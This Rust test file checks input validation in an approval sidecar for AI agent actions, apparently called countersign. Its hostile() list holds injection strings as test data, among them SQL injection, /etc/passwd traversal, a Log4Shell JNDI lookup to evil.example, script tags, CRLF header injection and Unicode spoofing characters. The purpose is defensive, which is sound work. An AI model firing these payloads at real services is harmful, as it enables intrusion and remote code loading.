//! Hostile text in every field of every request: it is refused by name, or it is only text.

use crate::harness::*;
use crate::moves::*;
use countersign::proto::*;
use std::collections::HashSet;
use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use tokio::task::JoinSet;
use tonic::{Code, Status};

/// Any agent may call anything, and people confirm all of it: every identifier reaches the record.
const OPEN: &str = r#"
version: countersign.policy/v1
defaults: { ceiling: admin, confirm: always }
connectors:
  gmail: { ceiling: admin, confirm: always, unlisted: admin }
"#;

/// A hostile text, and whether it is an identifier all the same.
fn hostile() -> Vec<(String, bool)> {
    let identifiers = [
        "a",
        &"a".repeat(256),
        &"\u{e9}".repeat(128),
        &"\u{1F600}".repeat(64),
        "'; DROP TABLE approvals; --",
        "\" OR \"\"=\"",
        "a\\'); DELETE FROM approvals WHERE ('1'='1",
        "%_%",
        "{\"a\":1}",
        "[null]",
        "null",
        "undefined",
        "NaN",
        "true",
        "0",
        "-1",
        "constructor",
        "__proto__",
        "toString",
        "../../etc/passwd",
        "..",
        "/",
        "C:\\windows\\system32",
        "file:///etc/passwd",
        "https://evil.example/?q=<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "\\u0000",
        "\\u{202E}",
        "\u{301}",
        "e\u{301}",
        "\u{e9}",
        "a b",
        "a\u{a0}b",
        "a\u{3000}b",
        "\u{430}lice",
        "\u{5d0}\u{5d1}",
        "owner",
        "group:finance",
        "person:olga",
        "*",
        "a*",
        "-",
        "--help",
        "=1+1",
        "#",
        "!",
        "~0~1",
        "'",
        "\"",
        "\\",
        "|",
        ",",
        ":",
        ";",
    ];
    let none = [
        &"a".repeat(257),
        &format!("{}a", "\u{e9}".repeat(128)),
        &"a".repeat(1 << 20),
        "\0",
        "a\0b",
        "a\0",
        "\n",
        "a\nb",
        "a\r\nb",
        "a\tb",
        "\u{1b}[31mred",
        "\u{7f}",
        "\u{85}",
        "\u{9b}31m",
        " ",
        " a",
        "a ",
        "\u{a0}a",
        "a\u{3000}",
        "a\u{2003}",
        "\u{202e}evil",
        "a\u{202a}b\u{202c}",
        "a\u{2066}b\u{2069}",
        "a\u{200e}b",
        "a\u{200b}b",
        "a\u{200c}b",
        "a\u{200d}b",
        "a\u{2060}b",
        "\u{feff}a",
        "a\u{ad}b",
        "a\u{34f}b",
        "a\u{180e}b",
        "a\u{3164}b",
        "a\u{fe0f}b",
        "a\u{e0041}b",
        "a\u{e000}b",
        "a\u{f8ff}b",
        "a\u{100000}b",
        "a\u{378}b",
        "a\u{fdd0}b",
        "a\u{ffff}b",
        "a\u{2028}b",
        "a\u{2029}b",
    ];
    let with = |texts: &[&str], identifier: bool| texts.iter().map(|text| ((*text).to_owned(), identifier)).collect();
    let mut all: Vec<(String, bool)> = with(&identifiers, true);
    let mut more: Vec<(String, bool)> = with(&none, false);
    all.append(&mut more);
    all
}

/// What a field takes.
#[derive(Clone, Copy, PartialEq)]
enum Takes {
    /// An identifier.
    Identifier,
    /// An identifier, or nothing.
    Optional,
    /// At most 500 characters.
    Note,
    /// At most so many bytes.
    Bytes(usize),
    /// A UUID.
    Id,
    /// A UUID, or nothing.
    OptionalId,
    /// One form only, or nothing.
    OptionalForm,
    /// JSON.
    Arguments,
    /// Anything: what is none of ours is refused by a reason of its own.
    Token,
}

impl Takes {
    fn takes(self, text: &str, identifier: bool) -> bool {
        match self {
            Self::Identifier => identifier,
            Self::Optional => identifier || text.is_empty(),
            Self::Note => text.chars().count() <= 500,
            Self::Bytes(most) => text.len() <= most,
            Self::Id => false,
            Self::OptionalId | Self::OptionalForm => text.is_empty(),
            Self::Arguments => text.is_empty() || text == "{\"a\":1}",
            Self::Token => true,
        }
    }
}

type Answer<'a> = Pin<Box<dyn Future<Output = Result<(), Status>> + std::marker::Send + 'a>>;
type Send = for<'a> fn(&'a Sidecar, String) -> Answer<'a>;

/// One field of one request: its name in a refusal, what it takes, and the request with a text in it.
struct Field {
    name: &'static str,
    takes: Takes,
    send: Send,
}

const SOME_ID: &str = "0190b6c0-0000-7000-8000-00000000000a";

/// A field of a request at the door `$door`.
macro_rules! field {
    ($fields:ident, $door:ident . $rpc:ident, $name:literal, $takes:expr, $text:ident => $request:expr) => {
        $fields.push(Field {
            name: $name,
            takes: $takes,
            send: |sidecar, $text| {
                Box::pin(async move {
                    let request = $request;
                    sidecar.$door().$rpc(request).await.map(|_| ())
                })
            },
        })
    };
}

/// Every text of an invocation, in a request made of it.
macro_rules! invocation_fields {
    ($fields:ident, $rpc:ident, $invocation:ident => $request:expr) => {{
        macro_rules! inside {
            ($name:literal, $takes:expr, $text:ident => $changed:expr) => {
                field!($fields, agent.$rpc, $name, $takes, $text => {
                    let $invocation = Some($changed);
                    $request
                })
            };
        }
        inside!("invocation.principal", Takes::Identifier, text => Invocation { principal: text, ..email() });
        inside!("invocation.agent", Takes::Identifier, text => Invocation { agent: text, ..email() });
        inside!("invocation.conversation", Takes::Optional, text => Invocation { conversation: text, ..email() });
        inside!("invocation.connector", Takes::Identifier, text => Invocation { connector: text, ..email() });
        inside!("invocation.account", Takes::Optional, text => Invocation { account: text, ..email() });
        inside!("invocation.connection", Takes::Optional, text => Invocation { connection: text, ..email() });
        inside!("invocation.action", Takes::Identifier, text => Invocation { action: text, ..email() });
        inside!("invocation.arguments_json", Takes::Arguments, text => Invocation { arguments_json: text, ..email() });
        inside!("invocation.tool_definition_digest", Takes::OptionalForm, text => Invocation { tool_definition_digest: text, ..email() });
        inside!("invocation.objective.transcript", Takes::Identifier, text => Invocation {
            objective: Some(Objective { transcript: text, id: "input-1".to_owned(), revision: 1 }),
            ..email()
        });
        inside!("invocation.objective.id", Takes::Identifier, text => Invocation {
            objective: Some(Objective { transcript: "t1".to_owned(), id: text, revision: 1 }),
            ..email()
        });
        inside!("invocation.labels", Takes::Optional, text => Invocation { labels: [("name".to_owned(), text)].into(), ..email() });
    }};
}

fn fields() -> Vec<Field> {
    let mut fields = Vec::new();
    invocation_fields!(fields, evaluate, invocation => EvaluateRequest { invocation, explain: true });
    invocation_fields!(fields, request_approval, invocation => RequestApprovalRequest { invocation, ..Default::default() });
    invocation_fields!(fields, consume, invocation => ConsumeRequest { invocation, attempt_id: new_attempt(), ..Default::default() });
    field!(fields, agent.request_approval, "request_id", Takes::Optional, text => RequestApprovalRequest {
        request_id: text, invocation: Some(in_conversation(&new_attempt())), ..Default::default()
    });
    field!(fields, agent.request_approval, "retry_of", Takes::OptionalId, text => RequestApprovalRequest {
        retry_of: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.request_approval, "agent_note", Takes::Note, text => RequestApprovalRequest {
        agent_note: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "consume_token", Takes::Token, text => ConsumeRequest {
        consume_token: text, attempt_id: new_attempt(), invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "attempt_id", Takes::Id, text => ConsumeRequest {
        attempt_id: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "retry_of", Takes::OptionalId, text => ConsumeRequest {
        retry_of: text, attempt_id: new_attempt(), invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.get_approval, "principal", Takes::Identifier, text => AgentServiceGetApprovalRequest {
        principal: text, agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.get_approval, "agent", Takes::Identifier, text => AgentServiceGetApprovalRequest {
        principal: "olga".to_owned(), agent: text, approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.get_approval, "approval_id", Takes::Id, text => AgentServiceGetApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: text
    });
    field!(fields, agent.cancel_approval, "principal", Takes::Identifier, text => CancelApprovalRequest {
        principal: text, agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, agent.cancel_approval, "agent", Takes::Identifier, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: text, approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, agent.cancel_approval, "approval_id", Takes::Id, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: text, reason: String::new()
    });
    field!(fields, agent.cancel_approval, "reason", Takes::Note, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned(), reason: text
    });
    field!(fields, agent.report_outcome, "principal", Takes::Identifier, text => ReportOutcomeRequest {
        principal: text, ..report()
    });
    field!(fields, agent.report_outcome, "agent", Takes::Identifier, text => ReportOutcomeRequest {
        agent: text, ..report()
    });
    field!(fields, agent.report_outcome, "execution_id", Takes::Id, text => ReportOutcomeRequest {
        execution_id: text, ..report()
    });
    field!(fields, agent.report_outcome, "remote_reference", Takes::Bytes(512), text => ReportOutcomeRequest {
        remote_reference: text, ..report()
    });
    field!(fields, agent.report_outcome, "error_code", Takes::Bytes(128), text => ReportOutcomeRequest {
        error_code: text, ..report()
    });
    field!(fields, agent.report_outcome, "detail", Takes::Bytes(2_000), text => ReportOutcomeRequest {
        detail: text, ..report()
    });
    field!(fields, approver.list_approvals, "principal", Takes::Identifier, text => ListApprovalsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, approver.list_approvals, "page_token", Takes::Token, text => ListApprovalsRequest {
        principal: "olga".to_owned(), page_token: text, ..Default::default()
    });
    field!(fields, approver.get_approval, "principal", Takes::Identifier, text => ApproverServiceGetApprovalRequest {
        principal: text, approval_id: SOME_ID.to_owned()
    });
    field!(fields, approver.get_approval, "approval_id", Takes::Id, text => ApproverServiceGetApprovalRequest {
        principal: "olga".to_owned(), approval_id: text
    });
    field!(fields, approver.decide, "principal", Takes::Identifier, text => DecideRequest {
        principal: text, ..decision()
    });
    field!(fields, approver.decide, "approval_id", Takes::Id, text => DecideRequest { approval_id: text, ..decision() });
    field!(fields, approver.decide, "reason", Takes::Note, text => DecideRequest { reason: text, ..decision() });
    field!(fields, approver.decide, "shown_fingerprint", Takes::OptionalForm, text => DecideRequest {
        shown_fingerprint: text, ..decision()
    });
    field!(fields, approver.revoke_approval, "principal", Takes::Identifier, text => RevokeApprovalRequest {
        principal: text, approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, approver.revoke_approval, "approval_id", Takes::Id, text => RevokeApprovalRequest {
        principal: "olga".to_owned(), approval_id: text, reason: String::new()
    });
    field!(fields, approver.revoke_approval, "reason", Takes::Note, text => RevokeApprovalRequest {
        principal: "olga".to_owned(), approval_id: SOME_ID.to_owned(), reason: text
    });
    field!(fields, operator.list_audit_records, "approval_id", Takes::OptionalId, text => ListAuditRecordsRequest {
        approval_id: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "execution_id", Takes::OptionalId, text => ListAuditRecordsRequest {
        execution_id: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "principal", Takes::Optional, text => ListAuditRecordsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "page_token", Takes::Token, text => ListAuditRecordsRequest {
        page_token: text, ..Default::default()
    });
    fields
}

fn report() -> ReportOutcomeRequest {
    ReportOutcomeRequest {
        principal: "olga".to_owned(),
        agent: "assistant".to_owned(),
        execution_id: SOME_ID.to_owned(),
        outcome: Outcome::Unknown.into(),
        ..Default::default()
    }
}

fn decision() -> DecideRequest {
    DecideRequest {
        approval_id: SOME_ID.to_owned(),
        principal: "olga".to_owned(),
        verdict: Verdict::Approve.into(),
        ..Default::default()
    }
}

/// What a status costs in headers, where its message is percent-encoded and its details are base64: clients refuse more
/// than 8 KiB of them.
fn header_bytes(status: &Status) -> usize {
    let escaped = |byte: u8| if (0x20..0x7f).contains(&byte) && byte != b'%' { 1 } else { 3 };
    status.message().bytes().map(escaped).sum::<usize>() + status.details().len() * 4 / 3
}

/// A refusal that is the sidecar's own, small enough to travel and fit to be printed.
#[track_caller]
fn proper(status: &Status, what: &str) {
    assert!(!matches!(status.code(), Code::Internal | Code::Unknown | Code::Unavailable), "{what}: {status:?}");
    assert!(!reason(status).is_empty());
    assert!(header_bytes(status) < 7_500, "{what}: {} bytes", header_bytes(status));
    let hidden = status.message().chars().find(|one| countersign::domain::text::is_hidden(*one));
    assert_eq!(hidden, None, "{what}: {:?}", status.message());
}

#[tokio::test]
async fn hostile_text_in_any_field_is_refused_by_name_or_is_only_text() {
    let sidecar = Arc::new(Sidecar::with(OPEN, (1_000_000, 1_000_000)).await);
    let texts: Vec<(String, bool)> = hostile().into_iter().chain([(String::new(), false)]).collect();
    for field in fields() {
        // All at once, so that they share their commits.
        let mut calls = JoinSet::new();
        for (text, identifier) in texts.iter().cloned() {
            let (send, sidecar) = (field.send, Arc::clone(&sidecar));
            calls.spawn(async move { (send(&sidecar, text.clone()).await, text, identifier) });
        }
        for (result, text, identifier) in calls.join_all().await {
            let what = format!("{} of {:?}", field.name, text.chars().take(40).collect::<String>());
            if let Err(status) = &result {
                proper(status, &what);
            }
            let named = result.as_ref().err().map(wrong_fields).unwrap_or_default();
            if field.takes == Takes::Token {
                assert!(named.is_empty() || named == ["page_token"], "{what}: {named:?}");
            } else if field.takes.takes(&text, identifier) {
                assert!(named.is_empty(), "{what}: {result:?}");
            } else {
                let status = result.expect_err(&what);
                assert_eq!(status.code(), Code::InvalidArgument, "{what}: {status:?}");
                assert_eq!(named, [field.name], "{what}");
            }
        }
    }
    sidecar.still_tells_the_story().await;
}

#[tokio::test]
async fn every_field_of_text_is_in_the_list_above() {
    use prost::Message as _;
    let set = prost_types::FileDescriptorSet::decode(DESCRIPTORS).unwrap();
    let files = || set.file.iter().filter(|file| file.package() == "countersign.v1");
    let message = |name: &str| {
        let name = name.trim_start_matches(".countersign.v1.");
        files().flat_map(|file| &file.message_type).find(|one| one.name() == name).unwrap()
    };
    let mut found = HashSet::new();
    for method in files().flat_map(|file| &file.service).flat_map(|service| &service.method) {
        let mut open = vec![(String::new(), message(method.input_type()))];
        while let Some((prefix, message)) = open.pop() {
            for field in &message.field {
                let name = format!("{prefix}{}", field.name());
                match field.r#type() {
                    prost_types::field_descriptor_proto::Type::String => {
                        found.insert(name);
                    }
                    prost_types::field_descriptor_proto::Type::Message
                        if field.type_name().starts_with(".countersign") =>
                    {
                        let entry = message.nested_type.iter().any(|nested| field.type_name().ends_with(nested.name()));
                        // A batch's items are those of `Evaluate`.
                        if entry {
                            found.insert(name);
                        } else if name != "requests" {
                            open.push((format!("{name}."), message_of(&set, field.type_name())));
                        }
                    }
                    _ => {}
                }
            }
        }
    }
    let listed: HashSet<String> = fields().iter().map(|field| field.name.to_owned()).collect();
    assert_eq!(found, listed);
}

fn message_of<'a>(set: &'a prost_types::FileDescriptorSet, name: &str) -> &'a prost_types::DescriptorProto {
    let name = name.trim_start_matches(".countersign.v1.");
    set.file.iter().flat_map(|file| &file.message_type).find(|one| one.name() == name).unwrap()
}

#[tokio::test]
async fn what_is_an_identifier_goes_through_the_whole_story_byte_for_byte() {
    let sidecar = Arc::new(Sidecar::under(OPEN).await);
    let mut stories = JoinSet::new();
    for (text, _) in hostile().into_iter().filter(|(_, identifier)| *identifier) {
        let sidecar = Arc::clone(&sidecar);
        stories.spawn(async move { tells_the_story_of(&sidecar, text).await });
    }
    stories.join_all().await;
}

/// Asks, approves, uses and reports, all of it under one name.
async fn tells_the_story_of(sidecar: &Sidecar, text: String) {
    {
        let label_name = if text.len() <= 64 { text.clone() } else { "name".to_owned() };
        let invocation = Invocation {
            principal: text.clone(),
            agent: text.clone(),
            conversation: text.clone(),
            connector: "gmail".to_owned(),
            account: text.clone(),
            connection: text.clone(),
            action: text.clone(),
            arguments_json: serde_json::json!({ &text: &text }).to_string(),
            objective: Some(Objective { transcript: text.clone(), id: text.clone(), revision: 0 }),
            tool_definition_digest: String::new(),
            labels: [(label_name, text.clone())].into(),
        };
        let request = RequestApprovalRequest {
            request_id: text.clone(),
            invocation: Some(invocation.clone()),
            ..Default::default()
        };
        let answer = sidecar.request_as("runtime", request).await.unwrap();
        let (approval, token) = (answer.approval.unwrap(), answer.consume_token);
        let approval = sidecar.decide(&text, &approval.id, Verdict::Approve).await.unwrap();
        assert_eq!(approval.state(), ApprovalState::Approved);
        for got in [
            &approval.principal,
            &approval.agent,
            &approval.conversation,
            &approval.account,
            &approval.connection,
            &approval.action,
            &approval.objective.as_ref().unwrap().transcript,
            &approval.objective.as_ref().unwrap().id,
            &approval.decisions[0].principal,
        ] {
            assert_eq!(*got, text);
        }
        assert!(approval.decisions[0].as_owner);
        assert_eq!(
            sidecar.listed(&text, &[]).await,
            std::slice::from_ref(&approval.id),
            "no name reads another's: {text:?}"
        );
        let permit = sidecar.consume(&token, invocation.clone()).await.unwrap().permit.unwrap();
        let execution = sidecar.report_on(&invocation, &permit.execution_id, Outcome::Succeeded).await.unwrap();
        for got in
            [&execution.principal, &execution.agent, &execution.conversation, &execution.account, &execution.action]
        {
            assert_eq!(*got, text);
        }
        let filter = ListAuditRecordsRequest { principal: text.clone(), ..Default::default() };
        let records = sidecar.operator().list_audit_records(filter).await.unwrap().into_inner().records;
        assert_eq!(records.len(), 5);
        for record in &records {
            assert_eq!((&record.principal, &record.action), (&text, &text));
            assert_eq!(record.labels, invocation.labels);
        }
        assert!(records.iter().any(|record| record.person == text));
    }
}

#[tokio::test]
async fn what_is_only_text_comes_back_with_nothing_hidden() {
    let sidecar = Arc::new(Sidecar::with(OPEN, (1_000_000, 1_000_000)).await);
    let mut stories = JoinSet::new();
    for (index, (text, _)) in hostile().into_iter().enumerate().filter(|(_, (text, _))| text.len() <= 400) {
        let sidecar = Arc::clone(&sidecar);
        stories.spawn(async move { comes_back_visible(&sidecar, index, text).await });
    }
    stories.join_all().await;
}

/// Says it as the agent's note, a person's reason and a report's texts.
async fn comes_back_visible(sidecar: &Sidecar, index: usize, text: String) {
    {
        let invocation = in_conversation(&index.to_string());
        let request = RequestApprovalRequest {
            invocation: Some(invocation.clone()),
            agent_note: text.clone(),
            ..Default::default()
        };
        let answer = sidecar.request_as("runtime", request).await.unwrap();
        let asked = answer.approval.unwrap();
        let answer_of = DecideRequest {
            approval_id: asked.id.clone(),
            principal: "olga".to_owned(),
            verdict: Verdict::Approve.into(),
            reason: text.clone(),
            ..Default::default()
        };
        let approval = sidecar.approver().decide(answer_of).await.unwrap().into_inner().approval.unwrap();
        let permit = sidecar.consume(&answer.consume_token, invocation).await.unwrap().permit.unwrap();
        let report = ReportOutcomeRequest {
            execution_id: permit.execution_id,
            detail: text.clone(),
            remote_reference: text.clone(),
            ..report()
        };
        let execution = sidecar.agent().report_outcome(report).await.unwrap().into_inner().execution.unwrap();
        let shown =
            [approval.agent_note, approval.decisions[0].reason.clone(), execution.detail, execution.remote_reference];
        for got in shown {
            let visible = |one: char| one == '\n' || one == '\t' || !countersign::domain::text::is_hidden(one);
            assert!(got.chars().all(visible), "{got:?}");
            if text.chars().all(|one| (' '..='~').contains(&one)) {
                assert_eq!(got, text, "plain text stays as it is");
            }
        }
    }
}

#[tokio::test]
async fn a_message_that_is_too_large_or_no_message_leaves_the_connection_alive() {
    let sidecar = Sidecar::start().await;
    let mut agent = sidecar.agent();
    let huge = Invocation { arguments_json: format!("{{\"a\":\"{}\"}}", "x".repeat(5 << 20)), ..email() };
    let status = agent.evaluate(EvaluateRequest { invocation: Some(huge), explain: false }).await.unwrap_err();
    assert!(matches!(status.code(), Code::OutOfRange | Code::ResourceExhausted), "{status:?}");
    // The same connection serves on.
    agent.evaluate(EvaluateRequest { invocation: Some(email()), explain: false }).await.unwrap();
    let rpc = "/countersign.v1.AgentService/Evaluate";
    for garbage in
        [&b"\xff\xff\xff"[..], b"\x0a\x7f", b"\x0a\xff\xff\xff\xff\x0f", b"\x0a\x02\x0a\x80", &[0x0a; 70_000]]
    {
        let mut call = crate::wire::RawCall::open(sidecar.running().address(), rpc, Some(&token("runtime"))).await;
        call.send(garbage).await;
        assert!(!call.gets_an_answer().await, "{garbage:?}");
    }
    sidecar.still_tells_the_story().await;
}

#[derive(serde::Deserialize)]
struct Vectors {
    canonical_json: Vec<CanonicalVector>,
    fingerprint: Vec<FingerprintVector>,
}

#[derive(serde::Deserialize)]
struct CanonicalVector {
    name: String,
    arguments_json: String,
    #[serde(default)]
    refused: bool,
}

#[derive(serde::Deserialize)]
struct FingerprintVector {
    name: String,
    account: String,
    action: String,
    connector: String,
    arguments_json: String,
    objective: Option<ObjectiveVector>,
    fingerprint: String,
}

#[derive(serde::Deserialize)]
struct ObjectiveVector {
    transcript: String,
    id: String,
    revision: u64,
}

fn vectors() -> Vectors {
    serde_json::from_str(include_str!("../vectors/canonical-and-fingerprint.json")).unwrap()
}

fn with_arguments(arguments_json: &str) -> Invocation {
    Invocation { arguments_json: arguments_json.to_owned(), ..email() }
}

#[tokio::test]
async fn arguments_are_taken_or_refused_as_the_vectors_say() {
    let sidecar = Sidecar::start().await;
    let vectors = vectors();
    let mut refusals = 0;
    for vector in &vectors.canonical_json {
        let results = [
            sidecar.evaluate(with_arguments(&vector.arguments_json)).await.map(|_| ()),
            sidecar.request(with_arguments(&vector.arguments_json)).await.map(|_| ()),
            sidecar.consume("x", with_arguments(&vector.arguments_json)).await.map(|_| ()),
        ];
        for result in results {
            let status = if vector.refused {
                let status = wrong(result, "invocation.arguments_json");
                assert_eq!(reason(&status), "INVALID_ARGUMENTS_JSON", "{}", vector.name);
                let problem = told(&status, "problem");
                assert!(problem.len() > 3 && problem.to_uppercase() == problem, "{problem}");
                assert!(
                    ["", "/a", "/x/0/k"].contains(&told(&status, "pointer").as_str()) || vector.name == "65 levels"
                );
                Some(status)
            } else {
                result.err()
            };
            if let Some(status) = status {
                proper(&status, &vector.name);
            }
        }
        refusals += usize::from(vector.refused);
    }
    assert!(refusals >= 18);
    for vector in vectors.fingerprint {
        let invocation = Invocation {
            account: vector.account,
            action: vector.action,
            connector: vector.connector,
            arguments_json: vector.arguments_json,
            objective: vector.objective.map(|said| Objective {
                transcript: said.transcript,
                id: said.id,
                revision: said.revision,
            }),
            ..email()
        };
        // One vector has names that are no identifiers: the fingerprint is defined for them, the doors do not take them.
        match sidecar.evaluate(invocation).await {
            Ok(answer) => assert_eq!(answer.fingerprint, vector.fingerprint, "{}", vector.name),
            Err(status) => {
                assert_eq!(vector.name, "quotes and line breaks in names of things");
                assert_eq!(wrong_fields(&status), ["invocation.account", "invocation.action"]);
            }
        }
    }
}

#[tokio::test]
async fn refused_arguments_are_told_by_problem_and_place() {
    let sidecar = Sidecar::start().await;
    let nested = |levels: usize| format!("{{\"a\":{}{}}}", "[".repeat(levels - 1), "]".repeat(levels - 1));
    let long_name = "n".repeat(10_000);
    let deep_names = (0..60).fold(String::from("1,"), |inner, _| format!("{{\"{}\":{inner}}}", "x".repeat(60)));
    let cases = [
        (r#"{"a":{"b":[0,{"c":1,"c":2}]}}"#.to_owned(), "DUPLICATE_MEMBER", "/a/b/1/c"),
        (r#"{"a":1,"\u0061":2}"#.to_owned(), "DUPLICATE_MEMBER", "/a"),
        (r#"{"a/b~c":["\ud800"]}"#.to_owned(), "UNPAIRED_SURROGATE", "/a~1b~0c/0"),
        (r#"{"a":[1,2,01]}"#.to_owned(), "INVALID_NUMBER", "/a/2"),
        (format!("{{\"a\":1{}}}", "0".repeat(800)), "TOO_MANY_DIGITS", "/a"),
        (r#"{"a":1e401}"#.to_owned(), "EXPONENT_OUT_OF_RANGE", "/a"),
        (r#"{"a":1e-401}"#.to_owned(), "EXPONENT_OUT_OF_RANGE", "/a"),
        (r#"{"a":1e99999999999999999999}"#.to_owned(), "EXPONENT_OUT_OF_RANGE", "/a"),
        ("{\"a\":\"\u{1}\"}".to_owned(), "CONTROL_CHARACTER", "/a"),
        (r#"{"a":"\x"}"#.to_owned(), "INVALID_ESCAPE", "/a"),
        (r#"{"a":1"#.to_owned(), "UNEXPECTED_END", ""),
        ("{} {}".to_owned(), "TRAILING_TEXT", ""),
        ("[]".to_owned(), "NOT_AN_OBJECT", ""),
        ("null".to_owned(), "NOT_AN_OBJECT", ""),
        (" ".to_owned(), "UNEXPECTED_END", ""),
        ("\u{feff}{}".to_owned(), "BYTE_ORDER_MARK", ""),
    ];
    for (arguments, problem, pointer) in cases {
        let status = wrong(sidecar.evaluate(with_arguments(&arguments)).await, "invocation.arguments_json");
        assert_eq!(reason(&status), "INVALID_ARGUMENTS_JSON");
        assert_eq!(
            (told(&status, "problem").as_str(), told(&status, "pointer").as_str()),
            (problem, pointer),
            "{arguments:.60}"
        );
        proper(&status, problem);
    }
    // A pointer is cut before it is longer than a header.
    let long = [
        format!("{{\"{long_name}\":[}}"),
        format!("{{\"{}\":[}}", "\u{202e}".repeat(5_000)),
        format!("{{\"{}\":[}}", "\u{1F600}".repeat(5_000)),
        deep_names,
    ];
    for arguments in long {
        let status = wrong(sidecar.evaluate(with_arguments(&arguments)).await, "invocation.arguments_json");
        proper(&status, "a long pointer");
        assert!(!told(&status, "pointer").is_empty());
    }
    assert!(sidecar.evaluate(with_arguments(&nested(64))).await.is_ok());
    let status = wrong(sidecar.evaluate(with_arguments(&nested(65))).await, "invocation.arguments_json");
    assert_eq!(told(&status, "problem"), "TOO_DEEP");
    let status = wrong(sidecar.evaluate(with_arguments(&nested(100_000))).await, "invocation.arguments_json");
    assert_eq!(told(&status, "problem"), "TOO_DEEP");
    // 256 KiB as handed over, and not one byte more; white space counts.
    let sized = |bytes: usize| format!("{{\"a\":\"{}\"}}", "x".repeat(bytes - 8));
    for (arguments, taken) in [
        (sized(256 * 1024), true),
        (sized(256 * 1024 + 1), false),
        (format!("{{}}{}", " ".repeat(256 * 1024 - 2)), true),
        (format!("{{}}{}", " ".repeat(256 * 1024 - 1)), false),
    ] {
        let result = sidecar.request(with_arguments(&arguments)).await;
        if taken {
            result.unwrap();
        } else {
            assert_eq!(told(&wrong(result, "invocation.arguments_json"), "problem"), "TOO_LARGE");
        }
    }
}

#[tokio::test]
async fn numbers_that_a_double_would_merge_stay_apart_from_end_to_end() {
    let sidecar = Sidecar::start().await;
    let pairs = [
        ("9007199254740993", "9007199254740992"),
        ("0.1", "0.1000000000000000055511151231257827"),
        ("1e308", "1.0000000000000000000000000001e308"),
        ("1e400", "1e399"),
        ("18446744073709551616", "18446744073709551617"),
    ];
    for (one, other) in pairs {
        let arguments = |number: &str| with_arguments(&format!("{{\"amount\":{number}}}"));
        let (first, token) = sidecar.approved(arguments(one)).await;
        let second = sidecar.request(arguments(other)).await.unwrap();
        assert!(!second.existing, "{one} is not {other}");
        assert_ne!(second.approval.as_ref().unwrap().fingerprint, first.fingerprint);
        refused(sidecar.consume(&token, arguments(other)).await, Code::FailedPrecondition, "ARGUMENTS_CHANGED");
        assert!(first.preview_json.contains(one) || one.contains('e'), "{}", first.preview_json);
        sidecar.consume(&token, arguments(one)).await.unwrap();
    }
    // And one value however it is written is one.
    let (_, token) = sidecar.approved(with_arguments("{\"amount\":100}")).await;
    sidecar.consume(&token, with_arguments("{\"amount\":1.00e2}")).await.unwrap();
}

#[tokio::test]
async fn characters_moved_across_the_border_of_two_fields_make_another_question() {
    let sidecar = Arc::new(Sidecar::with(OPEN, (1_000_000, 1_000_000)).await);
    fn put(invocation: &mut Invocation, field: usize, text: String) {
        let mut objective = invocation.objective.clone().unwrap();
        match field {
            0 => invocation.principal = text,
            1 => invocation.agent = text,
            2 => invocation.conversation = text,
            3 => invocation.account = text,
            4 => invocation.action = text,
            5 => objective.transcript = text,
            _ => objective.id = text,
        }
        invocation.objective = Some(objective);
    }
    let mut pairs = JoinSet::new();
    for first in 0..7 {
        for second in (0..7).filter(|second| *second != first) {
            for moved in ["x", "\"", ",", "\",\"", ":", "\\", "|", "/", "}", "\u{1F600}", "null"] {
                let mut here = email();
                put(&mut here, first, format!("a{moved}"));
                put(&mut here, second, "b".to_owned());
                let mut there = email();
                put(&mut there, first, "a".to_owned());
                put(&mut there, second, format!("{moved}b"));
                let sidecar = Arc::clone(&sidecar);
                pairs.spawn(async move {
                    let here = sidecar.request(here).await.unwrap().approval.unwrap();
                    let there = sidecar.request(there).await.unwrap().approval.unwrap();
                    assert_ne!(here.id, there.id);
                    // Principal, agent and conversation are no part of the fingerprint; the rest is.
                    let covered = first > 2 || second > 2;
                    assert_eq!(here.fingerprint != there.fingerprint, covered, "{first} {second} {moved:?}");
                });
            }
        }
    }
    pairs.join_all().await;
}

#[tokio::test]
async fn labels_are_bounded_in_number_and_size() {
    let sidecar = Sidecar::start().await;
    let with = |labels: Vec<(String, String)>| Invocation { labels: labels.into_iter().collect(), ..fetch() };
    let numbered = |count: usize| (0..count).map(|index| (format!("label-{index}"), "x".to_owned())).collect();
    let one = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
    for taken in [
        numbered(16),
        one(&"n".repeat(64), &"v".repeat(256)),
        one(&"\u{e9}".repeat(32), &"\u{e9}".repeat(128)),
        one("empty value", ""),
    ] {
        sidecar.evaluate(with(taken)).await.unwrap();
    }
    for refused in [
        numbered(17),
        numbered(10_000),
        one(&"n".repeat(65), "v"),
        one(&format!("{}a", "\u{e9}".repeat(32)), "v"),
        one("n", &"v".repeat(257)),
        one("", "v"),
        one(" n", "v"),
        one("n", "v "),
        one("n", "\u{202e}"),
        one("n\0", "v"),
    ] {
        wrong(sidecar.evaluate(with(refused)).await, "invocation.labels");
    }
}

#[tokio::test]
async fn a_request_that_is_wrong_all_over_is_told_within_what_a_status_may_carry() {
    let sidecar = Sidecar::start().await;
    let bad = || "\u{202e}".repeat(80);
    let invocation = Invocation {
        principal: bad(),
        agent: bad(),
        conversation: bad(),
        connector: bad(),
        account: bad(),
        connection: bad(),
        action: bad(),
